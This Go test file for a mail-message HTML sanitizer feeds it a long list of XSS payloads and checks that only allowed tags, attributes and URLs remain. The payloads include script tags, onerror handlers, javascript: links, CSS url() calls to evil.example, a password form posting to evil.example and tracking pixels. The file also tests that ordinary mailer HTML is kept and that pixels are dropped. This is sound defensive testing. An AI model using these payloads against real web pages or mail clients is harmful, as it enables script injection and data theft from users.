package markup_test

import (
	"net/url"
	"regexp"
	"strconv"
	"strings"
	"testing"

	"golang.org/x/net/html"

	"github.com/patchbay-im/patchbay/core/markup"
)

// images are those of a message that has one picture of its own.
func images() markup.Images {
	return markup.Images{
		Inline: func(id string) string {
			if id == "logo@far" {
				return "/api/v1/media/att_1/preview?t=x"
			}
			return ""
		},
	}
}

// hostile is HTML that wants more than to be read.
func hostile() []string {
	return []string{
		`<script>alert(1)</script>`, `<SCRIPT SRC=//evil.example/x.js></SCRIPT>`, `<scr<script>ipt>alert(1)</scr</script>ipt>`, `<svg/onload=alert(1)>`,
		`<svg><script>alert(1)</script></svg>`, `<svg><animate onbegin=alert(1) attributeName=x dur=1s>`, `<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>`,
		`<img src=x onerror=alert(1)>`, `<img src="javascript:alert(1)">`, `<img src=" &#14; javascript:alert(1)">`, `<img srcset="http://evil.example/x 1x">`,
		`<img src="data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=">`, `<img src="data:text/html,<script>alert(1)</script>">`, `<img src=http://evil.example/t.gif width=1 height=1>`,
		`<img src="//evil.example/t.gif">`, `<img src="\\evil.example\t.gif">`, `<img src="/api/v1/session">`, `<img src="file:///etc/passwd">`, `<img src="cid:absent">`,
		`<img src="blob:https://x/y">`, `<img src="http://evil.example/a.png?n=1&quot;onerror=alert(1)"><img src="https://evil.example/b.png" alt='"><script>alert(1)</script>'>`,
		`<img src="picture?n=0">`, `<img src="picture?n=0" srcset="https://evil.example/x 2x" onload=alert(1)>`, `<img src="HTTP://evil.example:80/\n/x">`, `<img src="https://evil.example/x" style="width:1px;background:url(https://evil.example/y)">`,
		`<img lowsrc=http://evil.example/x dynsrc=http://evil.example/y>`, `<a href="javascript:alert(1)">x</a>`, `<a href="JaVa&#10;ScRiPt:alert(1)">x</a>`,
		`<a href="vbscript:x">x</a>`, `<a href="data:text/html,x">x</a>`, `<a href="cid:logo@far">x</a>`, `<a href="/api/v1/session">x</a>`, `<a href="//evil.example" target=_self>x</a>`,
		`<a href="https://evil.example" onclick="alert(1)" ping="http://evil.example/p">x</a>`, `<a href="https://evil.example" target="_top" rel="opener">x</a>`,
		`<form action=https://evil.example><input name=password><button>x</button></form>`, `<isindex action=javascript:alert(1)>`, `<button formaction=javascript:alert(1)>x</button>`,
		`<iframe src=https://evil.example></iframe>`, `<iframe srcdoc="<script>alert(1)</script>"></iframe>`, `<frameset><frame src=javascript:alert(1)></frameset>`,
		`<object data=https://evil.example></object>`, `<embed src=https://evil.example>`, `<applet code=x></applet>`, `<base href=https://evil.example>`,
		`<meta http-equiv=refresh content="0;url=https://evil.example">`, `<link rel=stylesheet href=https://evil.example/x.css>`, `<link rel=preconnect href=https://evil.example>`,
		`<style>@import "https://evil.example/x.css"; body{background:url(https://evil.example/x)}</style>`, `<style><img src="</style><img src=x onerror=alert(1)>">`,
		`<div style="background:url(https://evil.example/x)">x</div>`, `<div style="background-image:url('//evil.example/x')">x</div>`, `<div style="background:u\72l(https://evil.example/x)">x</div>`,
		`<div style="width:expression(alert(1))">x</div>`, `<div style="position:fixed;inset:0;z-index:9999">x</div>`, `<div style="position:absolute;top:-1000px">x</div>`,
		`<div style="list-style:url(https://evil.example/x)">x</div>`, `<div style="content:url(https://evil.example/x)">x</div>`, `<div style="behavior:url(#x)">x</div>`,
		`<div style="-moz-binding:url(https://evil.example/x)">x</div>`, `<div style="color:red;}body{background:url(https://evil.example)}">x</div>`,
		`<div style="font-family:'</style><script>alert(1)</script>'">x</div>`, `<table background="https://evil.example/x"><tr><td background=https://evil.example/y>x</table>`,
		`<body onload=alert(1) background=https://evil.example/x>x</body>`, `<video poster=https://evil.example/x src=https://evil.example/y></video>`, `<audio src=https://evil.example/x autoplay></audio>`,
		`<picture><source srcset=https://evil.example/x><img src=https://evil.example/y></picture>`, `<input type=image src=https://evil.example/x>`, `<xml:namespace prefix=t><t:set attributeName=x>`,
		`<noscript><p title="</noscript><img src=x onerror=alert(1)>">`, `<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>`, `<title><img src=x onerror=alert(1)></title>`,
		`<template><script>alert(1)</script></template>`, `<plaintext><script>alert(1)</script>`, `<xmp><script>alert(1)</script></xmp>`, `<listing><img src=x onerror=alert(1)></listing>`,
		`<!--><script>alert(1)</script>-->`, `<!--[if gte mso 9]><script>alert(1)</script><![endif]-->`, `<![CDATA[<script>alert(1)</script>]]>`, `<?xml version="1.0"?><script>alert(1)</script>`,
		`<p title='"><script>alert(1)</script>'>x</p>`, `<font face="x' onmouseover='alert(1)">x</font>`, `<font color="#fff;background:url(x)">x</font>`, `<p id=location name=cookie class=x>x</p>`,
		`<a name="x" id="body">x</a>`, `<dialog open>x</dialog>`, `<portal src=https://evil.example></portal>`, `<slot></slot><custom-element onclick=alert(1)>x</custom-element>`,
		"<img src=`javascript:alert(1)`>", "<img\x00src=x onerror=alert(1)>", "<\x00script>alert(1)</script>", "<a href=\"jav\x00ascript:alert(1)\">x</a>", "<p>\xff\xfe\x00</p>",
		strings.Repeat("<div>", 20_000) + "deep", strings.Repeat("<table><tr><td>", 5_000), "<a " + strings.Repeat("a=b ", 50_000) + ">x</a>", strings.Repeat("&", 100_000), strings.Repeat("<", 100_000),
	}
}

// safe checks that a cleaned text holds nothing but what may be shown.
func safe(t *testing.T, source, cleaned string) {
	t.Helper()
	tokens := html.NewTokenizer(strings.NewReader(cleaned))
	attribute := regexp.MustCompile(`^(style|align|valign|dir|lang|title|href|rel|target|src|alt|loading|referrerpolicy|width|height|border|cellpadding|cellspacing|colspan|rowspan|span|start|bgcolor|color|size|face)$`)
	element := regexp.MustCompile(`^(p|div|span|br|hr|wbr|h[1-6]|b|strong|i|em|u|s|strike|del|ins|su[bp]|small|big|tt|code|kbd|samp|var|pre|blockquote|q|cite|abbr|address|center|[uod]l|li|d[td]|table|caption|colgroup|col|thead|tbody|tfoot|t[rdh]|figure|figcaption|section|article|header|footer|main|font|a|img|bd[io]|mark|time)$`)
	for tokens.Next() != html.ErrorToken {
		token := tokens.Token()
		switch token.Type {
		case html.TextToken, html.EndTagToken:
			continue
		case html.CommentToken, html.DoctypeToken:
			t.Errorf("%.80q leaves %s", source, token)
			continue
		default:
			if !element.MatchString(token.Data) {
				t.Errorf("%.80q leaves <%s>", source, token.Data)
			}
		}
		for _, a := range token.Attr {
			if !attribute.MatchString(a.Key) {
				t.Errorf("%.80q leaves %s=%q", source, a.Key, a.Val)
			}
			checkValue(t, source, token, a)
		}
	}
}

func checkValue(t *testing.T, source string, token html.Token, a html.Attribute) {
	t.Helper()
	switch a.Key {
	case "src":
		if !strings.HasPrefix(a.Val, "/api/v1/media/att_1/") && !regexp.MustCompile(`^(picture\?n=\d+|data:image/(png|jpeg|gif|webp);base64,[A-Za-z0-9+/=]*)$`).MatchString(a.Val) {
			t.Errorf("%.80q loads %q", source, a.Val)
		}
	case "href":
		u, err := url.Parse(a.Val)
		if err != nil || u.Scheme != "http" && u.Scheme != "https" && u.Scheme != "mailto" && u.Scheme != "tel" {
			t.Errorf("%.80q leads to %q", source, a.Val)
		}
		if shown := token.String(); strings.HasPrefix(a.Val, "http") && (!strings.Contains(shown, "noopener") || !strings.Contains(shown, `target="_blank"`)) {
			t.Errorf("%.80q opens here: %s", source, shown)
		}
	case "style":
		if regexp.MustCompile(`(?i)url|expression|position|behavior|binding|@import|z-index|transform|content`).MatchString(a.Val) {
			t.Errorf("%.80q is styled %q", source, a.Val)
		}
	case "target":
		if a.Val != "_blank" {
			t.Errorf("%.80q opens in %q", source, a.Val)
		}
	}
}

func TestHostile(t *testing.T) {
	for _, source := range hostile() {
		safe(t, source, markup.Clean(source, images()).HTML)
		safe(t, source, markup.Clean(source, numbered()).HTML)
		_ = markup.Text(source)
	}
}

// numbered are images where pictures elsewhere are shown by their numbers.
func numbered() markup.Images {
	out, n := images(), 0
	out.Remote = func(string) string {
		n++
		return "picture?n=" + strconv.Itoa(n-1)
	}
	return out
}

func FuzzClean(f *testing.F) {
	for _, source := range hostile() {
		if len(source) < 1000 {
			f.Add(source)
		}
	}
	f.Fuzz(func(t *testing.T, source string) {
		safe(t, source, markup.Clean(source, images()).HTML)
		safe(t, source, markup.Clean(source, numbered()).HTML)
		_ = markup.Text(source)
	})
}

// What Outlook, Gmail and Chinese mailers write stays readable.
func TestWhatMailersWriteIsKept(t *testing.T) {
	for source, want := range map[string]string{
		`<table width="600" cellpadding=0 cellspacing=0 border="0" bgcolor="#ffffff" align=center><tr><td valign=top colspan=2 style="padding:10px 0;border-bottom:1px solid #eee;font-family:'微软雅黑',Arial;color:#333">x</td></tr></table>`: `<table width="600" cellpadding="0" cellspacing="0" border="0" bgcolor="#ffffff" align="center"><tr><td valign="top" colspan="2" style="padding: 10px 0; border-bottom: 1px solid #eee; font-family: '微软雅黑',Arial; color: #333">x</td></tr></table>`,
		`<p class="MsoNormal" style="margin:0cm;mso-line-height-rule:exactly;background:#ff0"><o:p>&nbsp;</o:p>你好</p>`:                                                                                                                      `<p style="margin: 0cm; background: #ff0">` + "\u00a0" + `你好</p>`,
		`<div dir="rtl" lang="ar">مرحبا</div>`:              `<div dir="rtl" lang="ar">مرحبا</div>`,
		`<img src="cid:logo@far" alt="Logo" width="100">`:   `<img src="/api/v1/media/att_1/preview?t=x" loading="lazy" referrerpolicy="no-referrer" alt="Logo" width="100">`,
		`<img src="cid:%3Clogo@far%3E">`:                    `<img src="/api/v1/media/att_1/preview?t=x" loading="lazy" referrerpolicy="no-referrer">`,
		`<img src="https://far.example/x.png" alt="A <b>">`: `[A &lt;b&gt;]`,
		`<a href="https://far.example/?a=1&amp;b=2">x</a>`:  `<a href="https://far.example/?a=1&amp;b=2" rel="nofollow noreferrer noopener" target="_blank">x</a>`,
		`<a href="mailto:a@example.com">a</a>`:              `<a href="mailto:a@example.com" rel="nofollow noreferrer noopener" target="_blank">a</a>`,
		`<blockquote type="cite" style="margin:0 0 0 .8ex;border-left:1px solid #ccc;padding-left:1ex">q</blockquote>`: `<blockquote style="margin: 0 0 0 .8ex; border-left: 1px solid #ccc; padding-left: 1ex">q</blockquote>`,
	} {
		if got := markup.Clean(source, images()).HTML; strings.ReplaceAll(got, "&#39;", "'") != want {
			t.Errorf("%s\nis shown as\n%s\nwant\n%s", source, got, want)
		}
	}
	if got := markup.Clean(`<img src=https://a.example/1><img src=http://b.example/2><img src=cid:x>`, images()); got.Remote != 2 || got.HTML != "" {
		t.Errorf("%+v", got)
	}
	asked := images()
	asked.Remote = func(address string) string { return "/picture?" + url.QueryEscape(address) }
	if got := markup.Clean(`<img src="https://a.example/1?x&y">`, asked).HTML; !strings.Contains(got, `src="/picture?https%3A%2F%2Fa.example%2F1%3Fx%26y"`) {
		t.Errorf("a picture elsewhere is %s", got)
	}
}

// A picture that nobody can see is there to count who reads.
func TestPixelsAreNeverShown(t *testing.T) {
	asked := 0
	shows := images()
	shows.Remote = func(string) string { asked++; return "picture?n=0" }
	for _, pixel := range []string{
		`width=1 height=1`, `width="0"`, `height=1`, `style="width:1px;height:1px"`, `style="display: none"`, `style="max-width:0"`, `style="color:red;height:1px !important"`, `width="01"`,
	} {
		if got := markup.Clean(`<p>x<img src="https://far.example/t.gif" `+pixel+`></p>`, shows); got.Remote != 1 || got.Pixels != 1 || got.HTML != "<p>x</p>" {
			t.Errorf("%s: %+v", pixel, got)
		}
	}
	if asked != 0 {
		t.Errorf("%d pixels have an address", asked)
	}
	for _, picture := range []string{``, `width=10 height=100%`, `style="width:100%;height:10px"`, `style="line-height:1"`, `style="border-width:1px"`} {
		if got := markup.Clean(`<img src="https://far.example/t.gif" `+picture+`>`, shows); got.Pixels != 0 || got.Remote != 1 || !strings.Contains(got.HTML, "picture?n=0") {
			t.Errorf("%s: %+v", picture, got)
		}
	}
	if got := markup.Clean(`<img src="cid:logo@far" width=1 height=1>`, shows); got.Remote != 0 || got.Pixels != 0 {
		t.Errorf("a spacer of its own: %+v", got)
	}
}
